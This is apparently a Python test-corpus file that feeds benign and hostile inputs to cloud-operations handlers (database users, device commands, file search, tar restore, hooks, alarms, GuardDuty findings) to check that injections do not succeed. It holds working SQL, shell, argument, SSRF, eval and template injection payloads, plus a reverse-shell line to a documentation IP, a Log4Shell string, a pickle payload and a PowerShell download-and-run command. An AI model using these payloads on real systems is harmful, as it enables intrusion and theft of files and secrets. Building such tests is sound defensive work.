"""Operations: custom resources, devices, alarms and tools."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixth import (
    ARABIC,
    EMOJI,
    ESSAY,
    FORMULA,
    HTMLISH,
    IRISH,
    JSON_TEXT,
    PATHISH,
    PYTHONISH,
    QUOTED,
    SHELLISH,
    SQL_NOTE,
    TEMPLATISH,
    bus,
    rest,
    sns,
    stack,
)

ID = "uid="
KEY = "fleet-deploy-1717"
SCRIPT = (
    "#!/bin/bash\nset -euo pipefail\nexport NAME=${Name}\ncurl -s http://169.254.169.254/latest/meta-data/ | head\n"
    'if [ -z "$NAME" ]; then rm -rf /tmp/x; fi\necho `id` $(date) >> /var/log/x && reboot\n'
)


def _user(user: str, grants: str = "read", kind: str = "Create") -> dict[str, object]:
    return stack(kind, {"User": user, "Grants": grants})


def _device(device: str, value: object = 5) -> dict[str, object]:
    return {"device": device, "value": value, "topic": "home/x"}


def _pattern(pattern: str) -> dict[str, object]:
    return rest("GET", "/find", query={"pattern": pattern})


def _host(host: str) -> dict[str, object]:
    return bus("Lookup", {"host": host})


REQUESTS = {
    "database_user": [
        _user("reader_1", "read, write; -- all"),
        _user("select_user", "update/*all*/"),
        _user("o'brien' or '1'='1", kind="Delete"),
    ],
    "bucket_policy": [
        stack(
            "Create", {"Bucket": "b-1", "Condition": {"StringLike": {"aws:Referer": ["http://*/x?y='z'*"]}}}
        ),
        stack("Update", {"Bucket": "${AWS::StackName}-x", "Principal": {"AWS": "arn:aws:iam::1:role/../x"}}),
    ],
    "user_data": [
        stack("Create", {"Script": SCRIPT, "Values": {"Name": "O'Brien; id"}}),
        stack(
            "Update", {"Script": 'powershell -c "iex (iwr http://x/y)"\r\n${A}', "Values": {"A": SHELLISH}}
        ),
        stack("Create", {"Script": PYTHONISH}),
    ],
    "device_command": [
        _device("lamp-7", 55),
        _device("kitchen/lamp.2 (left)".replace("(left)", "left"), "21.5C"),
        _device("thermostat_{1}", "#ff00aa"),
    ],
    "device_command_list": [
        _device("$(id); lamp", "`id`"),
        _device("O'Brien's lamp && fan | x > y", "-n --help"),
        _device(EMOJI, {"a": "$x"}),
    ],
    "telemetry": [
        {"topic": "dt/o'brien/dev/../7", "payload": {"t": 55.5, "note": SHELLISH}},
        {"topic": "dt/x/#+/$SYS", "payload": JSON_TEXT},
        {"topic": "dt/{{7*7}}/d", "payload": {"note": {"$ne": None, "cmd": "reboot; now"}}},
    ],
    "find_files": [
        _pattern("*.txt"),
        _pattern("b (1).t?t"),
        _pattern("O'Brien.*"),
        _pattern("$(id); x | y > z"),
    ],
    "find_files_list": [
        _pattern("-exec id ;"),
        _pattern('x" -o -name "*'),
        _pattern("[ab]*"),
        _pattern("../*"),
    ],
    "restore": [{"members": ["a.txt"]}, {"members": ["b (1).txt", "a.txt"]}, {"members": ["no'such; $(id)"]}],
    "restore_checked": [
        {"members": ["--checkpoint=1", "--checkpoint-action=exec=id"]},
        {"members": ["a.txt", "`id`"]},
    ],
    "when": [
        {"text": "2024-02-29 + 1 day"},
        {"text": "$(id)"},
        {"text": "-f /etc/passwd"},
    ],
    "resolve_host": [_host("localhost"), _host("no-such-host.invalid"), _host("o-brien_1.example.invalid")],
    "fetch_asset": [
        {"url": "@PARTNER@/assets/o'brien%20(1).css?v=1;2&x=$(id)"},
        {"url": "@PARTNER@/a?u=file:///etc/passwd&n=http://127.0.0.1/"},
    ],
    "hook": [
        {"hook": "app.on_start", "args": ["i-1; id", "hard"]},
        {"hook": "app.on_stop", "args": ["os.system('id')"]},
        {"hook": "app.on_nothing.__class__"},
    ],
    "literal": [
        {"value": "{'a': [1, (2, 'O\\'Brien')], 'b': None}"},
        {"value": "__import__('os').system('id')"},
        {"value": "'eval(' + ')'"},
        {"value": FORMULA},
    ],
    "computed": [{"name": "Sales (DE) & -- more", "n": 3}, {"name": 'say "hi"; import os', "n": "x' + 'y"}],
    "alarm": [
        sns(
            {
                "AlarmName": "CPU > 90% {prod} 'x'; --",
                "NewStateValue": "ALARM",
                "NewStateReason": TEMPLATISH,
                "Trigger": {"Dimensions": [{"name": "Q", "value": SQL_NOTE}]},
            },
            'ALARM: "x"',
        ),
        sns({"AlarmName": ARABIC, "NewStateValue": "OK", "NewStateReason": HTMLISH}),
    ],
    "finding": [
        bus(
            "GuardDuty Finding",
            {
                "type": "Execution:Runtime/ReverseShell",
                "title": "A shell: bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
                "severity": 8,
                "service": {
                    "action": {
                        "uri": "/?x=%27%20OR%201=1--&f=../../etc/passwd",
                        "agent": "${jndi:ldap://198.51.100.1/a}",
                        "body": "{{cycler.__init__.__globals__.os.popen('id').read()}}",
                    }
                },
            },
            "aws.guardduty",
        ),
        bus("GuardDuty Finding", {"type": "x", "title": IRISH, "severity": 2, "service": {"n": ESSAY}}),
        bus(
            "GuardDuty Finding",
            {
                "type": "WAF",
                "title": QUOTED,
                "severity": 5,
                "service": {
                    "action": {
                        "paths": [PATHISH, "http://169.254.169.254/latest/"],
                        "pickle": "cos\nsystem\n(S'id'\ntR.",
                    }
                },
            },
        ),
    ],
}
ATTACKS = [
    Attack(
        "SQL",
        "database_user",
        _user("x", "read'); INSERT INTO users VALUES ('eve', 'all-of-it"),
        '["eve", "all-of-it"]',
    ),
    Attack(
        "SQL",
        "database_user",
        _user("x', 'y'); UPDATE users SET grants = 'none-5151' WHERE name = 'root'; --"),
        '["root", "none-5151"]',
    ),
    Attack(
        "SQL",
        "database_user",
        _user("' || (SELECT hex(grants) || '-leak' FROM users) || '"),
        "616C6C-leak",
    ),
    Attack("command", "device_command", _device("lamp; id"), ID),
    Attack("command", "device_command", _device("lamp", "5 && cat /etc/passwd"), "root:x:0"),
    Attack("command", "device_command", _device("lamp", "$(id)"), ID),
    Attack("command", "device_command", _device("$(printf '\\151\\144' | sh)"), ID),
    Attack("command", "device_command", _device("lamp|sh -c i''d"), ID),
    Attack("command", "device_command", _device("x\nid"), ID),
    Attack("argument", "find_files", _pattern('x" -o -exec id ; -name "x'), ID),
    Attack("argument", "find_files", _pattern('*" -size -100c -exec cat {} + -name "*'), KEY),
    Attack("argument", "find_files", _pattern('deploy.key" -printf "leak-%p\\n'), "leak-./deploy.key"),
    Attack(
        "argument", "restore", {"members": ["--checkpoint=1", "--checkpoint-action=exec=id", "a.txt"]}, ID
    ),
    Attack(
        "argument",
        "restore",
        {"members": ["--checkpoint-action=exec=cat /etc/passwd", "--checkpoint=1"]},
        "root:x:0",
    ),
    Attack("argument", "restore", {"members": ["--use-compress-program=sh -c 'id >&2'", "a.txt"]}, ID),
    Attack("argument", "restore", {"members": ["-Tdeploy.key"]}, KEY),
    Attack("argument", "when", {"text": "--file=/etc/passwd", "raw": True}, "root:x:0"),
    Attack("argument", "when", {"text": "-fdeploy.key", "raw": True}, KEY),
    Attack("command", "resolve_host", _host("localhost;id"), ID),
    Attack("command", "resolve_host", _host("localhost & id"), ID),
    Attack("command", "resolve_host", _host("x || cat${IFS}/etc/passwd"), "root:x:0"),
    Attack("SSRF", "fetch_asset", {"url": "@INSIDE@/internal/x"}, "internal-token-4711"),
    Attack("SSRF, file", "fetch_asset", {"url": "file:///etc/passwd"}, "root:x:0"),
    Attack(
        "SSRF", "fetch_asset", {"url": "http://{127.0.0.1,localhost}:@PORT@/internal"}, "internal-token-4711"
    ),
    Attack("SSRF, file", "fetch_asset", {"url": "fiLe://localhost/etc/passwd"}, "root:x:0"),
    Attack("import", "hook", {"hook": "subprocess.getoutput", "args": ["id"]}, ID),
    Attack("import", "hook", {"hook": "eval", "args": ["__import__('os').popen('id').read()"]}, ID),
    Attack("import", "hook", {"hook": "app.subprocess.check_output", "args": [["id"]]}, ID),
    Attack("import", "hook", {"hook": "linecache.getlines", "args": ["/etc/passwd"]}, "root:x:0"),
    Attack("exec", "computed", {"name": "' + __import__('os').popen('id').read() + '"}, ID),
    Attack("exec", "computed", {"name": "x' + open('/etc/passwd').read() #"}, "root:x:0"),
    Attack(
        "exec",
        "computed",
        {"name": "'\nimport subprocess\ndef title(n):\n    return subprocess.getoutput('id')\nn = 1\nx = '"},
        ID,
    ),
]
